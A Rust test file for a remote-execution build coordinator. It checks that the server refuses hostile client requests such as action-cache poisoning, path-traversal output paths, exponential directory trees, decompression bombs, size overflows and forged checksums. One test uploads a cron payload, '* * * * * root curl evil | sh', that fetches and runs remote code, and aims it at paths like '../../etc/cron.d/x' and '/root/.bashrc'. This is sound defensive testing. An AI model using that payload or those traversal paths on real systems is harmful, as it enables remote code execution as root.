//! What a hostile client can send a coordinator over the wire, sent for
//! real: results that would poison the action cache, and trees built to
//! wedge the server. Each must be refused (or answered) without harm.

mod common;

use std::time::Duration;

use bytes::Bytes;
use casbuild_fs::digest::Digest;
use casbuild_proto::reapi::capabilities_client::CapabilitiesClient;
use casbuild_proto::reapi::execution_client::ExecutionClient;
use casbuild_proto::reapi::{
    Action, ActionResult, Command, Directory, DirectoryNode, FileNode, GetActionResultRequest, GetCapabilitiesRequest,
    OutputDirectory, OutputFile, Tree, UpdateActionResultRequest,
};
use common::execute::{blob, execute, execute_request, upload, F};
use common::Coordinator;
use tonic::Code;

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap()
}

async fn update(server: &Coordinator, action: &Digest, result: ActionResult) -> Result<(), tonic::Status> {
    let request = UpdateActionResultRequest {
        action_digest: Some(action.to_proto()),
        action_result: Some(result),
        digest_function: F.to_proto() as i32,
        ..Default::default()
    };
    server.action_cache().await.update_action_result(request).await.map(drop)
}

#[test]
fn results_that_would_poison_the_action_cache_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        let payload = Bytes::from_static(b"* * * * * root curl evil | sh\n");
        let payload_digest = F.digest_of(&payload);
        upload(&server, vec![(payload_digest, payload)]).await;
        let action = F.digest_of(b"a victim's action");
        let file = |path: &str| OutputFile {
            path: path.into(),
            digest: Some(payload_digest.to_proto()),
            ..Default::default()
        };

        for path in ["../../etc/cron.d/x", "/root/.bashrc", "a/../../b", "a//b", "./a", ""] {
            let result = ActionResult { output_files: vec![file(path)], ..Default::default() };
            let status = update(&server, &action, result).await.unwrap_err();
            assert_eq!(status.code(), Code::InvalidArgument, "{path:?}: {status:?}");
        }

        // An output directory whose Tree names an entry `..`.
        let evil = Directory {
            files: vec![FileNode { name: "..".into(), digest: Some(payload_digest.to_proto()), ..Default::default() }],
            ..Default::default()
        };
        let tree = Tree { root: Some(evil), children: vec![] };
        let (tree_digest, tree_bytes) = blob(&tree);
        upload(&server, vec![(tree_digest, tree_bytes)]).await;
        let result = ActionResult {
            output_directories: vec![OutputDirectory {
                path: "out".into(),
                tree_digest: Some(tree_digest.to_proto()),
                ..Default::default()
            }],
            ..Default::default()
        };
        let status = update(&server, &action, result).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
        assert!(status.message().contains("\"..\""), "{}", status.message());

        // A result naming blobs the CAS does not have.
        let absent = F.digest_of(b"never uploaded");
        let output = OutputFile { path: "out".into(), digest: Some(absent.to_proto()), ..Default::default() };
        let result = ActionResult { output_files: vec![output], ..Default::default() };
        let status = update(&server, &action, result).await.unwrap_err();
        assert_eq!(status.code(), Code::FailedPrecondition, "{status:?}");
        assert!(status.message().contains(&absent.hash_hex()), "{}", status.message());

        // Nothing of it was stored; a well-formed, complete result is.
        let get = || GetActionResultRequest {
            action_digest: Some(action.to_proto()),
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let missed = server.action_cache().await.get_action_result(get()).await.unwrap_err();
        assert_eq!(missed.code(), Code::NotFound);
        update(&server, &action, ActionResult { output_files: vec![file("bazel-out/x")], ..Default::default() })
            .await
            .unwrap();
        server.action_cache().await.get_action_result(get()).await.unwrap();
    });
}

#[test]
fn a_tree_that_names_each_child_twice_does_not_wedge_the_server() {
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        // 60 levels, each naming its child twice: 2^60 paths, 61 Directories.
        let absent = F.digest_of(b"a file nobody uploaded");
        let leaf = Directory {
            files: vec![FileNode { name: "f".into(), digest: Some(absent.to_proto()), ..Default::default() }],
            ..Default::default()
        };
        let (mut root, bytes) = blob(&leaf);
        let mut blobs = vec![(root, bytes)];
        for _ in 0..60 {
            let node = |name: &str| DirectoryNode { name: name.into(), digest: Some(root.to_proto()) };
            let (digest, bytes) = blob(&Directory { directories: vec![node("a"), node("b")], ..Default::default() });
            blobs.push((digest, bytes));
            root = digest;
        }
        let command = Command { arguments: vec!["true".into()], ..Default::default() };
        let (command_digest, command_bytes) = blob(&command);
        let action = Action {
            command_digest: Some(command_digest.to_proto()),
            input_root_digest: Some(root.to_proto()),
            ..Default::default()
        };
        let (action_digest, action_bytes) = blob(&action);
        blobs.extend([(command_digest, command_bytes), (action_digest, action_bytes)]);
        upload(&server, blobs).await;

        let mut client = ExecutionClient::new(server.channel().await);
        let bounded = Duration::from_secs(60);
        let response = tokio::time::timeout(bounded, execute(&mut client, execute_request(&action_digest, true)))
            .await
            .expect("Execute answers");
        let status = response.status.unwrap();
        assert_eq!(status.code, Code::FailedPrecondition as i32, "{}", status.message);
        assert!(status.message.contains(&absent.hash_hex()), "{}", status.message);
        // The server still serves everyone else.
        let mut capabilities = CapabilitiesClient::new(server.channel().await);
        tokio::time::timeout(bounded, capabilities.get_capabilities(GetCapabilitiesRequest::default()))
            .await
            .expect("GetCapabilities answers")
            .unwrap();
    });
}

#[test]
fn batch_limits_hold_for_declared_and_decompressed_sizes() {
    use casbuild_proto::reapi::{
        batch_update_blobs_request, compressor, BatchReadBlobsRequest, BatchUpdateBlobsRequest,
    };
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        // 32 KiB of "zstd" declaring a 1 GiB blob: refused before decompression.
        let huge = casbuild_proto::reapi::Digest { hash: F.digest_of(b"bomb").hash_hex(), size_bytes: 1 << 30 };
        let bomb = batch_update_blobs_request::Request {
            digest: Some(huge),
            data: vec![0u8; 32 << 10],
            compressor: compressor::Value::Zstd as i32,
        };
        let request = BatchUpdateBlobsRequest {
            requests: vec![bomb],
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let status = server.cas().await.batch_update_blobs(request).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
        assert!(status.message().contains("batch limit"), "{}", status.message());

        // Declared sizes that add up to 2^64 (zero, if the sum wrapped).
        let sized = |seed: &[u8], size: i64| casbuild_proto::reapi::Digest {
            hash: F.digest_of(seed).hash_hex(),
            size_bytes: size,
        };
        let request = BatchReadBlobsRequest {
            digests: vec![sized(b"a", i64::MAX), sized(b"b", i64::MAX), sized(b"c", 2)],
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let status = server.cas().await.batch_read_blobs(request).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
    });
}

#[test]
fn cancelling_a_shared_operation_detaches_only_the_caller() {
    use casbuild_proto::longrunning::operations_client::OperationsClient;
    use casbuild_proto::longrunning::{CancelOperationRequest, GetOperationRequest};
    use common::execute::{operations, response_of, shell_action};
    if !common::needs_root("cancelling_a_shared_operation_detaches_only_the_caller", true) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start_up(&dir.path().join("up"));
    runtime().block_on(async {
        let (action, blobs) = shell_action("sleep 2; echo shared > out");
        upload(&server, blobs).await;
        let channel = server.channel().await;
        let mut a =
            ExecutionClient::new(channel.clone()).execute(execute_request(&action, true)).await.unwrap().into_inner();
        let mut b =
            ExecutionClient::new(channel.clone()).execute(execute_request(&action, true)).await.unwrap().into_inner();
        let a_name = a.message().await.unwrap().unwrap().name;
        let b_name = b.message().await.unwrap().unwrap().name;
        assert_ne!(a_name, b_name, "each requester has an operation of its own");

        // A gives up; B still gets the result.
        let mut ops = OperationsClient::new(channel.clone());
        ops.cancel_operation(CancelOperationRequest { name: a_name.clone() }).await.unwrap();
        let last = operations(b).await.pop().unwrap();
        assert_eq!(last.name, b_name);
        let response = response_of(&last);
        assert_eq!(response.status.unwrap_or_default().code, 0);
        assert_eq!(response.result.unwrap().output_files.len(), 1, "the shared job ran to its end");

        let a_op = ops.get_operation(GetOperationRequest { name: a_name }).await.unwrap().into_inner();
        assert!(a_op.done);
        assert_eq!(response_of(&a_op).status.unwrap().code, Code::Cancelled as i32);
    });
}

#[test]
fn an_asset_checksum_must_match_the_content_it_names() {
    use base64::Engine;
    use casbuild_proto::asset::fetch_client::FetchClient;
    use casbuild_proto::asset::push_client::PushClient;
    use casbuild_proto::asset::{FetchBlobRequest, PushBlobRequest, Qualifier};
    use sha2::Digest as _;
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        let tarball = Bytes::from_static(b"the real release tarball");
        let digest = F.digest_of(&tarball);
        upload(&server, vec![(digest, tarball.clone())]).await;
        let sri = |data: &[u8]| {
            format!("sha256-{}", base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(data)))
        };
        let qualifier = |value: String| vec![Qualifier { name: "checksum.sri".into(), value }];
        let push = |value: String| PushBlobRequest {
            uris: vec!["https://example.org/release.tar.gz".into()],
            qualifiers: qualifier(value),
            blob_digest: Some(digest.to_proto()),
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let mut client = PushClient::new(server.channel().await);
        // A push vouching for other bytes than the blob's is refused.
        let status = client.push_blob(push(sri(b"a trojaned tarball"))).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
        assert!(status.message().contains("does not match"), "{}", status.message());
        let status = client.push_blob(push("md5-AAAA".into())).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument);
        // The true checksum is accepted and served.
        client.push_blob(push(sri(&tarball))).await.unwrap();
        let fetch = FetchBlobRequest {
            uris: vec!["https://example.org/release.tar.gz".into()],
            qualifiers: qualifier(sri(&tarball)),
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let found = FetchClient::new(server.channel().await).fetch_blob(fetch).await.unwrap().into_inner();
        assert_eq!(found.blob_digest.unwrap().hash, digest.hash_hex());
    });
}

#[test]
fn instance_names_are_checked_before_they_cost_anything() {
    use casbuild_proto::reapi::FindMissingBlobsRequest;
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        for instance in ["x".repeat(10_000), "a/../b".into(), "with space".into(), "team/blobs".into()] {
            let request = FindMissingBlobsRequest {
                instance_name: instance.clone(),
                blob_digests: vec![F.digest_of(b"x").to_proto()],
                digest_function: F.to_proto() as i32,
            };
            let status = server.cas().await.find_missing_blobs(request).await.unwrap_err();
            assert_eq!(status.code(), Code::InvalidArgument, "{instance:.40}: {status:?}");
            let get = GetActionResultRequest {
                instance_name: instance.clone(),
                action_digest: Some(F.digest_of(b"a").to_proto()),
                digest_function: F.to_proto() as i32,
                ..Default::default()
            };
            let status = server.action_cache().await.get_action_result(get).await.unwrap_err();
            assert_eq!(status.code(), Code::InvalidArgument, "{instance:.40}: {status:?}");
        }
        // A plain path-like name works.
        let request = FindMissingBlobsRequest {
            instance_name: "team/main".into(),
            blob_digests: vec![],
            digest_function: F.to_proto() as i32,
        };
        server.cas().await.find_missing_blobs(request).await.unwrap();
    });
}
